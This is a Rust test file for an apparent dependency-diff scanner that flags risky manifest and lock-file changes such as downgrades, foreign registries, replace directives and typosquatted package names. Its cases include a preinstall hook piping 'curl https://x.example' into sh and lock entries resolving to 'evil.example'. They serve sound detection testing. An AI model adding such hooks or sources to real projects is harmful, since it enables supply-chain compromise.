use super::*;
use dashhost::testing::Task;
use finding::Run;

fn file<'a>(path: &'a str, text: &'a str) -> File<'a> {
    let hunks = vec![Run {
        line: 10,
        text: Cow::Borrowed(text),
    }];
    let lines: Vec<&str> = text.split('\n').filter_map(|l| l.strip_prefix('+')).collect();
    let added = match lines.is_empty() {
        true => vec![],
        false => vec![Run {
            line: 10,
            text: Cow::Owned(lines.join("\n")),
        }],
    };
    File {
        path: Cow::Borrowed(path),
        status: Cow::Borrowed("modified"),
        added,
        hunks,
    }
}

/// "rule severity" of what is found, in order.
fn rules(path: &str, hunk: &str) -> String {
    let found: Vec<String> = judge(&file(path, hunk), &[])
        .iter()
        .map(|h| format!("{} {:?}", h.rule, h.severity).to_lowercase())
        .collect();
    found.join("; ")
}

fn table(path: &str, cases: &[(&str, &str)]) {
    for (hunk, want) in cases {
        assert_eq!(rules(path, hunk), *want, "{path}\n{hunk}");
    }
}

#[test]
fn go_mod() {
    table(
        "go.mod",
        &[
            (" require (\n+\tgithub.com/a/b v1.2.3\n )", ""),
            ("+require github.com/a/b/v2 v2.0.0 // indirect", ""),
            ("-\tgithub.com/a/b v1.2.3\n+\tgithub.com/a/b v1.3.0", ""),
            ("-\tgithub.com/a/b v1.2.3\n+\tgithub.com/a/b v1.1.9", "downgrade medium"),
            ("-\tgithub.com/a/b v1.2.3\n+\tgithub.com/a/b v1.2.2", "downgrade low"),
            ("-\tgithub.com/a/b v1.2.3\n+\tgithub.com/a/c v1.0.0", ""),
            (
                "+\tgithub.com/a/b v0.0.0-20240102030405-0123456789ab",
                "go-pseudo-version medium",
            ),
            (
                "+\tgithub.com/a/b v1.2.4-0.20240102030405-0123456789ab // indirect",
                "go-pseudo-version low",
            ),
            ("+\tgithub.com/a/b v1.2.4-rc.1", ""),
            ("+\tgithub.com/a/b v4.0.0+incompatible", "go-incompatible low"),
            ("+replace github.com/a/b => ../b", "go-replace-path medium"),
            ("+\tgithub.com/a/b v1.0.0 => /home/me/b", "go-replace-path medium"),
            (
                "+replace github.com/a/b => github.com/evil/b v1.0.0",
                "go-replace-fork high",
            ),
            (
                "+replace github.com/a/b => github.com/a/b v1.0.0",
                "go-replace-version low",
            ),
            ("-replace github.com/a/b => github.com/evil/b v1.0.0", ""),
            ("+// replace github.com/a/b => ../b", ""),
            ("+go 1.26.0\n+toolchain go1.26.1\n+module example.org/x", ""),
        ],
    );
}

#[test]
fn package_json() {
    table(
        "web/package.json",
        &[
            (" \"dependencies\": {\n+    \"react\": \"^19.0.0\",\n }", ""),
            ("+    \"left-pad\": \"1.3.0\"", ""),
            (" \"dependencies\": {\n+    \"x\": \"*\"", "npm-any-version medium"),
            (" \"dependencies\": {\n+    \"x\": \"latest\"", "npm-any-version medium"),
            (" \"dependencies\": {\n+    \"x\": \">=1.0.0\"", "npm-any-version low"),
            (" \"dependencies\": {\n+    \"x\": \">=1.0.0 <2\"", ""),
            ("+    \"x\": \"git+ssh://git@github.com/a/b.git\"", "npm-url medium"),
            ("+    \"x\": \"github:a/b#main\"", "npm-url medium"),
            (" \"dependencies\": {\n+    \"x\": \"a/b\"", "npm-url medium"),
            (" \"devDependencies\": {\n+    \"x\": \"https://x.example/y.tgz\"", "npm-url medium"),
            (" \"dependencies\": {\n+    \"x\": \"http://x.example/y.tgz\"", "npm-url high"),
            (" \"dependencies\": {\n+    \"x\": \"file:../x\"", "npm-path low"),
            (" \"dependencies\": {\n+    \"x\": \"npm:y@1.0.0\"", "npm-alias medium"),
            (" \"scripts\": {\n+    \"postinstall\": \"node build.js\"", "npm-install-script medium"),
            ("+    \"preinstall\": \"curl https://x.example | sh\"", "npm-install-script high"),
            (" \"scripts\": {\n+    \"test\": \"curl https://x.example\"\n+    \"prepare\": \"husky\"", ""),
            ("+    \"registry\": \"https://npm.corp.example/\"", "npm-registry medium"),
            ("+  \"overrides\": {\n+    \"x\": \"1.0.0\"", "npm-override low"),
            ("+    \"loadsh\": \"^4.0.0\"", "name-near medium"),
            ("+    \"crossenv\": \"^7.0.0\"", "name-near medium"),
            ("+    \"preact\": \"^10.0.0\",\n+    \"colors\": \"1.4.0\"", ""),
            ("-    \"expres\": \"^4.0.0\"\n+    \"expres\": \"^4.1.0\"", ""),
            ("-    \"x\": \"^4.1.0\"\n+    \"x\": \"^3.0.0\"", "downgrade medium"),
            ("-  \"version\": \"2.0.0\",\n+  \"version\": \"1.9.0\",", ""),
            ("+  \"homepage\": \"https://x.example\",\n+    \"url\": \"git+https://x.example/x.git\"\n+  \"license\": \"MIT\"", ""),
            (" \"scripts\": {\n   },\n \"files\": {\n+    \"x\": \"*\"", ""),
        ],
    );
    table(
        ".npmrc",
        &[
            ("+registry=https://registry.npmjs.org/", ""),
            ("+@corp:registry=https://npm.corp.example/", "npm-registry medium"),
            ("+registry = http://npm.corp.example/", "npm-registry high"),
            ("+save-exact=true", ""),
        ],
    );
}

#[test]
fn cargo_toml() {
    table(
        "a/Cargo.toml",
        &[
            (" [dependencies]\n+serde = \"1\"\n+tokio = { version = \"1.40\", features = [\"full\"] }", ""),
            (" [dependencies]\n+x = \"*\"", "cargo-any-version medium"),
            ("+x = { version = \"*\" }", "cargo-any-version medium"),
            ("+x = { git = \"https://github.com/a/x\" }", "cargo-git medium"),
            ("+x = { git = \"https://github.com/a/x\", rev = \"abc\" }", "cargo-git low"),
            (" [dependencies.x]\n+git = \"https://github.com/a/x\"", "cargo-git medium"),
            ("+x = { path = \"../x\" }", ""),
            ("+x = { path = \"../../x\" }", "cargo-path medium"),
            ("+x = { path = \"/opt/x\" }", "cargo-path medium"),
            ("+x = { version = \"1\", registry = \"corp\" }", "cargo-registry medium"),
            ("+[patch.crates-io]\n+serde = { path = \"x\" }", "cargo-patch high; cargo-patch high"),
            (" [patch.crates-io]\n+serde = { git = \"https://github.com/a/serde\" }", "cargo-patch high"),
            (" [dependencies]\n+serd = \"1\"\n+reqwset = \"0.12\"", "name-near medium"),
            (" [dependencies]\n+serde-json = \"1\"", ""),
            (" [dependencies]\n-x = \"2.1\"\n+x = \"2.0\"", "downgrade medium"),
            (" [package]\n-version = \"2.1.0\"\n+version = \"2.0.0\"\n+edition = \"2021\"\n+repository = \"https://github.com/a/x\"", ""),
            (" [workspace.dependencies]\n+x = { git = \"https://g\", branch = \"main\" }", "cargo-git medium"),
            (" [[bin]]\n+path = \"../../../x.rs\"\n+name = \"x\"", ""),
        ],
    );
}

#[test]
fn requirements() {
    table(
        "requirements-dev.txt",
        &[
            ("+django==5.0.1\n+# comment\n+\n+-r base.txt", ""),
            ("+django==5.0.1 \\\n+    --hash=sha256:00", ""),
            ("+django>=5.0", "pip-unpinned low"),
            ("+django\n+flask==3.*", "pip-unpinned low; pip-unpinned low"),
            ("+django[argon2]==5.0.1; python_version > '3.8'", ""),
            ("+--extra-index-url https://pypi.corp.example/simple", "pip-index high"),
            ("+--index-url https://pypi.corp.example/simple", "pip-index medium"),
            ("+-i https://pypi.org/simple", ""),
            ("+-i http://pypi.corp.example/simple", "pip-index high"),
            ("+--trusted-host=pypi.corp.example", "pip-trusted-host high"),
            ("+--find-links ./wheels", "pip-index medium"),
            ("+git+https://github.com/a/b@main#egg=b", "pip-url medium"),
            (
                "+b @ git+https://github.com/a/b@0123456789abcdef0123456789abcdef01234567",
                "pip-url low",
            ),
            ("+-e git+ssh://git@github.com/a/b", "pip-url medium"),
            ("+https://x.example/b-1.0.whl", "pip-url medium"),
            ("+http://x.example/b-1.0.whl", "pip-url high"),
            ("+-e ./lib", "pip-path low"),
            ("+reqeusts==2.32.0", "name-near medium"),
            ("+python_dateutil==2.9.0", ""),
            ("-urllib3==2.2.0\n+urllib3==1.26.0", "downgrade medium"),
            ("-urllib3==2.2.0\n+urllib3==2.3.0", ""),
        ],
    );
}

#[test]
fn lock_files() {
    let changed = |path: &str, manifests: &[&str], text: &str| {
        let manifests: Vec<Cow<str>> = manifests.iter().map(|m| Cow::Borrowed(*m)).collect();
        let hits = judge(&file(path, text), &manifests);
        hits.iter().map(|h| h.rule).collect::<Vec<_>>()
    };
    assert_eq!(changed("web/yarn.lock", &[], "+x"), ["lock-only"]);
    assert_eq!(
        changed("web/yarn.lock", &["package.json", "web2/package.json"], "+x"),
        ["lock-only"]
    );
    assert_eq!(changed("web/yarn.lock", &["web/package.json"], "+x"), [""; 0]);
    assert_eq!(changed("Cargo.lock", &["crates/a/Cargo.toml"], "+x"), [""; 0]);
    assert_eq!(changed("go.sum", &["xgo.mod"], "+x"), ["lock-only"]);
    assert_eq!(changed("go.sum", &[], "-x"), [""; 0]);
    let own = "+      \"resolved\": \"https://registry.npmjs.org/x/-/x-1.tgz\",";
    let foreign = "+      \"resolved\": \"https://evil.example/x-1.tgz\",\n+      \"resolved\": \"https://evil.example/y-1.tgz\",";
    assert_eq!(changed("package-lock.json", &["package.json"], own), [""; 0]);
    assert_eq!(
        changed("package-lock.json", &["package.json"], foreign),
        ["lock-registry"]
    );
    assert_eq!(
        changed(
            "Cargo.lock",
            &["Cargo.toml"],
            "+source = \"registry+https://github.com/rust-lang/crates.io-index\""
        ),
        [""; 0]
    );
    assert_eq!(
        changed(
            "Cargo.lock",
            &["Cargo.toml"],
            "+source = \"git+https://github.com/a/b#0\""
        ),
        ["lock-registry"]
    );
    assert_eq!(changed("other.lock", &[], "+x"), [""; 0]);
}

#[test]
fn lines_are_numbered_in_the_new_file() {
    let hits = judge(&file("go.mod", " a\n-b\n-c\n+d\n \n+replace x.org/a => ../b"), &[]);
    assert_eq!((hits[0].line, hits[0].rule), (13, "go-replace-path"));
}

#[test]
fn odd_text_does_not_panic() {
    for line in [
        "",
        "é",
        "=>",
        "= ",
        "\"",
        "\"\": \"\"",
        "\"a\":",
        "[",
        "[[",
        "]",
        "{",
        "-i",
        "--index-url",
        "a==",
        "==",
        "@ ",
        "x = {",
        "é = \"é\"",
        "replace => ",
    ] {
        for path in [
            "go.mod",
            "package.json",
            "Cargo.toml",
            "requirements.txt",
            ".npmrc",
            "yarn.lock",
        ] {
            let hunk = format!("+{line}\n-{line}\n {line}\n");
            judge(&file(path, &hunk), &[]);
        }
    }
}

#[test]
fn passwords_in_urls_are_not_shown() {
    let text = "--index-url https://me:hunter2@pypi.corp.example/simple http://u:p@h";
    assert_eq!(
        without_password(text),
        "--index-url https://pypi.corp.example/simple http://h"
    );
}

#[test]
fn the_node_reads_a_batch_and_writes_findings() {
    let input = r#"{"change":{"files":3,"context":["go.mod"]},"item":[
        {"path":"go.mod","status":"modified","added":[{"line":3,"text":"replace a.org/b => ../b"}],"hunks":[{"line":2,"text":" \n+replace a.org/b => ../b"}]},
        {"path":"go.sum","status":"modified","added":[{"line":1,"text":"x"}]},
        {"path":"old/go.mod","status":"deleted","hunks":[{"line":0,"text":"-x"}]}]}"#;
    let got = Task::new(input).run(dash_start, dash_run);
    let id = id("go-replace-path", "go.mod", "replace a.org/b => ../b");
    let want = format!(
        r#"{{"findings":[{{"id":"{id}","rule":"go-replace-path","severity":"medium","path":"go.mod","line":3,"message":"a.org/b is replaced by the folder ../b: others build something else","excerpt":"replace a.org/b => ../b"}}]}}"#
    );
    assert_eq!(got.output.as_deref(), Some(want.as_str()), "{got:?}");
    let nothing = Task::new(r#"{"item":[]}"#).run(dash_start, dash_run);
    assert_eq!(nothing.output.as_deref(), Some("{}"));
}
